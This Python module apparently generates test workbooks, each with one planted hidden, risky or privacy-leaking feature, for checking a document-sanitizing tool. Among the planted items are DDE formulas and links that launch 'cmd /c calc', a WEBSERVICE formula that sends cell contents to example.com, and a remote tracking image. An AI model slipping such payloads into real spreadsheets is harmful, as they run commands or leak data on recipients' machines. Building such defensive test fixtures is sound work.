"""Workbooks with one thing each that should not leave the house, planted into the parts of a clean one."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import xlsxwriter

Parts = dict[str, bytes]
CT, WB, WB_RELS = "[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
SHEET, SHEET_RELS, ROOT_RELS = "xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels", "_rels/.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office"
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
)
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def clean_parts() -> Parts:
    """A workbook with text, numbers, a formula, a table and a chart, and nothing to hide."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Plan")
        sheet.write_row(0, 0, ["Name", "Value"])
        for row in range(1, 6):
            sheet.write_row(row, 0, [f"Item {row}", row * 10])
        sheet.add_table(0, 0, 5, 1, {"columns": [{"header": "Name"}, {"header": "Value"}]})
        sheet.write_formula(7, 1, "=SUM(B2:B6)", None, 150)
        sheet.write_url(8, 0, "https://example.com/", string="site")
        sheet.set_landscape()
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Plan!$B$2:$B$6"})
        sheet.insert_chart("D2", chart)
        book.add_worksheet("Other").write(0, 0, 1)
    with zipfile.ZipFile(buffer) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def save(parts: Parts, path: Path, comment: bytes = b"") -> Path:
    """Write the parts as a package."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.comment = comment
    return path


def swap(parts: Parts, part: str, old: str, new: str) -> None:
    """Replace the first ``old`` in ``part``; it must be there."""
    assert old.encode() in parts[part], (part, old)
    parts[part] = parts[part].replace(old.encode(), new.encode(), 1)


def add_part(parts: Parts, name: str, content: bytes, content_type: str) -> None:
    """Add a part with its content type."""
    parts[name] = content
    swap(parts, CT, "</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>')


def relate(parts: Parts, rels: str, type_: str, target: str, *, external: bool = False, id_: str = "rIdP") -> None:
    """Add a relationship."""
    parts.setdefault(rels, _RELS)
    mode = ' TargetMode="External"' if external else ""
    made = f'<Relationship Id="{id_}" Type="{type_}" Target="{target}"{mode}/></Relationships>'
    swap(parts, rels, "</Relationships>", made)


def cell(parts: Parts, inner: str, attributes: str = "") -> None:
    """Put one more cell, in row 20 of the first sheet."""
    swap(parts, SHEET, "</sheetData>", f'<row r="20"><c r="A20"{attributes}>{inner}</c></row></sheetData>')


def formula(text: str) -> Callable[[Parts], None]:
    """A formula cell that shows 7."""
    return lambda parts: cell(parts, f"<f>{text}</f><v>7</v>")


def macros(parts: Parts) -> None:
    add_part(parts, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0vba", "application/vnd.ms-office.vbaProject")
    relate(parts, WB_RELS, f"{MS}/2006/relationships/vbaProject", "vbaProject.bin")
    swap(parts, CT, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
         "application/vnd.ms-excel.sheet.macroEnabled.main+xml")  # fmt: skip


def external_link(parts: Parts) -> None:
    body = f'<externalLink {_NS}><externalBook xmlns:r="{OFFICE}" r:id="rId1"/></externalLink>'
    add_part(parts, "xl/externalLinks/externalLink1.xml", body.encode(),
             "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")  # fmt: skip
    relate(parts, "xl/externalLinks/_rels/externalLink1.xml.rels", f"{OFFICE}/externalLinkPath", "Other.xlsx",
           external=True, id_="rId1")  # fmt: skip
    relate(parts, WB_RELS, f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml")
    swap(parts, WB, "</sheets>", '</sheets><externalReferences><externalReference r:id="rIdP"/></externalReferences>')
    formula("[1]Sheet1!A1*2")(parts)


def comments(parts: Parts) -> None:
    body = (
        f'<comments {_NS}><authors><author>Jane Roe</author></authors><commentList><comment ref="A2" authorId="0">'
        "<text><r><t>Jane Roe:</t></r><r><t>look again</t></r></text></comment></commentList></comments>"
    )
    add_part(parts, "xl/comments1.xml", body.encode(),
             "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml")  # fmt: skip
    relate(parts, SHEET_RELS, f"{OFFICE}/comments", "../comments1.xml")


def persons(parts: Parts) -> None:
    body = (
        f'<personList xmlns="{MS}/spreadsheetml/2018/threadedcomments"><person displayName="Jane Roe" '
        'id="{11111111-2222-3333-4444-555555555555}" userId="jane@example.com" providerId="AD"/></personList>'
    )
    add_part(parts, "xl/persons/person.xml", body.encode(), "application/vnd.ms-excel.person+xml")
    relate(parts, WB_RELS, f"{MS}/2017/10/relationships/person", "persons/person.xml")


def related(name: str, kind: str, content: bytes, content_type: str, rels: str = WB_RELS) -> Callable[[Parts], None]:
    """A part that the workbook (or another) is related to."""

    def planter(parts: Parts) -> None:
        add_part(parts, name, content, content_type)
        relate(parts, rels, kind if kind.startswith("http") else f"{OFFICE}/{kind}", "/" + name)

    return planter


def printer(parts: Parts) -> None:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"
    related("xl/printerSettings/printerSettings1.bin", "printerSettings", b"P\0R\0", kind, SHEET_RELS)(parts)
    swap(parts, SHEET, "<pageSetup", '<pageSetup r:id="rIdP"')


def custom_property(name: str) -> Callable[[Parts], None]:
    body = (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property '
        f'fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="2" name="{name}"><vt:lpwstr>x</vt:lpwstr></property>'
        "</Properties>"
    )
    return related("docProps/custom.xml", "custom-properties", body.encode(),
                   "application/vnd.openxmlformats-officedocument.custom-properties+xml", ROOT_RELS)  # fmt: skip


def pivot(parts: Parts) -> None:
    body = (
        f'<pivotCacheDefinition {_NS} xmlns:r="{OFFICE}" r:id="rId1" recordCount="1"><cacheSource type="worksheet">'
        '<worksheetSource ref="A1:B6" sheet="Plan"/></cacheSource><cacheFields count="1"><cacheField name="Name">'
        '<sharedItems><s v="Secret Ltd"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>'
    )
    related("xl/pivotCache/pivotCacheDefinition1.xml", "pivotCacheDefinition", body.encode(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml")(parts)  # fmt: skip


def hyperlink(parts: Parts) -> None:
    relate(parts, SHEET_RELS, f"{OFFICE}/hyperlink", r"file:///\\server\share\plan.xlsx", external=True)
    swap(parts, SHEET, "<hyperlinks>", '<hyperlinks><hyperlink ref="A5" r:id="rIdP"/>')


def picture(parts: Parts) -> None:
    exif = b"Exif\0\0II*\0GPS here"
    jpeg = b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + b"\xff\xda\0\x02pixels\xff\xd9"
    related("xl/media/image1.jpeg", "image", jpeg, "image/jpeg", "xl/drawings/_rels/drawing1.xml.rels")(parts)


def text(words: str) -> Callable[[Parts], None]:
    return lambda parts: cell(parts, f"<is><t>{words}</t></is>", ' t="inlineStr"')


def shared_path(parts: Parts) -> None:
    swap(parts, "xl/sharedStrings.xml", "<t>Item 3</t>", r"<t>see C:\Users\jane\plan.xlsx</t>")


def embedded(parts: Parts) -> None:
    related("xl/embeddings/oleObject1.bin", "oleObject", b"\xd0\xcf\x11\xe0",
            "application/vnd.openxmlformats-officedocument.oleObject", SHEET_RELS)(parts)  # fmt: skip


def into_workbook(before: str, made: str) -> Callable[[Parts], None]:
    return lambda parts: swap(parts, WB, before, made + before)


def into_sheet(old: str, new: str) -> Callable[[Parts], None]:
    return lambda parts: swap(parts, SHEET, old, new)


def hidden_sheet(state: str) -> Callable[[Parts], None]:
    return lambda parts: swap(parts, WB, 'name="Other" sheetId="2"', f'name="Other" sheetId="2" state="{state}"')


def name_of(inner: str) -> Callable[[Parts], None]:
    return into_workbook("<calcPr", f"<definedNames>{inner}</definedNames>")


def personal(parts: Parts) -> None:
    swap(parts, "docProps/core.xml", "<dc:creator></dc:creator>", "<dc:creator>Jane Roe</dc:creator>")
    swap(parts, "docProps/app.xml", "<Company></Company>", "<Company>Acme</Company>")


def dde_link(parts: Parts) -> None:
    body = f'<externalLink {_NS}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    related("xl/externalLinks/externalLink1.xml", "externalLink", body.encode(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")(parts)  # fmt: skip


_XML = "application/xml"
_CONNECTIONS = f'<connections {_NS}><connection id="1" type="1" refreshedVersion="8"/></connections>'.encode()
#: What is planted: kind of finding, whether a safe copy can be made of it, how to plant it.
PLANTED: dict[str, tuple[str, bool, Callable[[Parts], None]]] = {
    "macros": ("macros", True, macros),
    "macro sheet": ("macro-sheet", False, related(
        "xl/macrosheets/sheet1.xml", f"{MS}/2006/relationships/xlMacrosheet", b"<m/>",
        "application/vnd.ms-excel.macrosheet+xml")),
    "activex": ("activex", False, related(
        "xl/activeX/activeX1.xml", "control", b"<ax/>", "application/vnd.ms-office.activeX+xml", SHEET_RELS)),
    "ribbon": ("ribbon", True, related(
        "customUI/customUI14.xml", f"{MS}/2007/relationships/ui/extensibility", b"<customUI/>", _XML, ROOT_RELS)),
    "web add-in": ("web-extension", True, related(
        "xl/webextensions/taskpanes.xml", f"{MS}/2011/relationships/webextensiontaskpanes", b"<t/>",
        "application/vnd.ms-office.webextensiontaskpanes+xml", ROOT_RELS)),
    "external link": ("external-link", True, external_link),
    "external link in a name": ("external-link", True, name_of(
        '<definedName name="Rate">[1]Rates!$A$1</definedName>')),
    "linked picture": ("external-data", False, lambda p: relate(
        p, "xl/drawings/_rels/drawing1.xml.rels", f"{OFFICE}/image", "http://example.com/track.png", external=True)),
    "dde formula": ("dde", True, formula("cmd|'/c calc'!A0")),
    "dde link": ("dde", True, dde_link),
    "web service": ("risky-formula", True, formula("_xlfn.WEBSERVICE(&quot;http://example.com/&quot;&amp;A1)")),
    "link formula": ("link", True, formula("HYPERLINK(&quot;file:///C:/plans/x.xlsx&quot;,&quot;go&quot;)")),
    "file link": ("link", True, hyperlink),
    "connection": ("connection", True, related(
        "xl/connections.xml", "connections", _CONNECTIONS,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")),
    "query table": ("query", True, related(
        "xl/queryTables/queryTable1.xml", "queryTable", f'<queryTable {_NS} name="q" connectionId="1"/>'.encode(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml", SHEET_RELS)),
    "power query": ("query", True, related(
        "customXml/item1.xml", "customXml", b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA</DataMashup>',
        _XML)),
    "data model": ("data-model", False, related(
        "xl/model/item.data", f"{MS}/2011/relationships/powerPivotData", b"model",
        "application/vnd.openxmlformats-officedocument.model+data")),
    "pivot cache": ("pivot-cache", False, pivot),
    "embedded object": ("embedded-object", False, embedded),
    "hidden sheet": ("hidden-sheet", False, hidden_sheet("hidden")),
    "very hidden sheet": ("hidden-sheet", False, hidden_sheet("veryHidden")),
    "hidden row": ("hidden-rows", False, into_sheet('<row r="3"', '<row r="3" hidden="1"')),
    "row of no height": ("hidden-rows", False, into_sheet('<row r="3"', '<row r="3" ht="0" customHeight="1"')),
    "hidden column": ("hidden-columns", False, into_sheet(
        "<sheetData>", '<cols><col min="3" max="3" width="9" hidden="1"/></cols><sheetData>')),
    "hidden name": ("hidden-name", False, name_of('<definedName name="Secret" hidden="1">"x"</definedName>')),
    "comment": ("comment-author", True, comments),
    "person": ("person", True, persons),
    "properties": ("property", True, personal),
    "custom property": ("custom-property", True, custom_property("Project")),
    "label": ("label", False, custom_property("MSIP_Label_0_Enabled")),
    "saved path": ("saved-path", True, into_workbook(
        "<bookViews>",
        '<x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac" '
        'url="C:\\Users\\jane\\Desktop\\"/>')),
    "path in a cell": ("path", False, text("see C:\\Users\\jane\\plan.xlsx")),
    "path in a shared string": ("path", False, shared_path),
    "network path in a cell": ("path", False, text("see \\\\server\\sales\\plan.xlsx")),
    "printer": ("printer-settings", True, printer),
    "custom xml": ("custom-xml", True, related("customXml/item1.xml", "customXml", b"<x/>", _XML)),
    "revisions": ("revision-log", False, related(
        "xl/revisions/revisionHeaders.xml", "revisionHeaders", f"<headers {_NS}/>".encode(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.revisionHeaders+xml")),
    "user name": ("user-name", True, into_workbook("<workbookPr", '<fileSharing userName="Jane Roe"/>')),
    "custom view": ("view", True, into_workbook(
        "</workbook>", '<customWorkbookViews><customWorkbookView name="Jane Roe - Personal View" '
        'guid="{11111111-2222-3333-4444-555555555555}" windowWidth="1" windowHeight="1" activeSheetId="1"/>'
        "</customWorkbookViews>")),
    "picture": ("image-metadata", True, picture),
    "thumbnail": ("thumbnail", True, related(
        "docProps/thumbnail.jpeg", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
        b"\xff\xd8\xff\xda\xff\xd9", "image/jpeg", ROOT_RELS)),
    "signature": ("signature", False, related(
        "_xmlsignatures/origin.sigs",
        "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", b"",
        "application/vnd.openxmlformats-package.digital-signature-origin", ROOT_RELS)),
    "stray part": ("stray-part", True, lambda p: add_part(p, "xl/secret.xml", b"<secret/>", _XML)),
    "text that acts": ("formula-text", True, text("=cmd|'/c calc'!A0")),
    "text like a formula": ("formula-like-text", True, text("@home Ltd")),
}  # fmt: skip
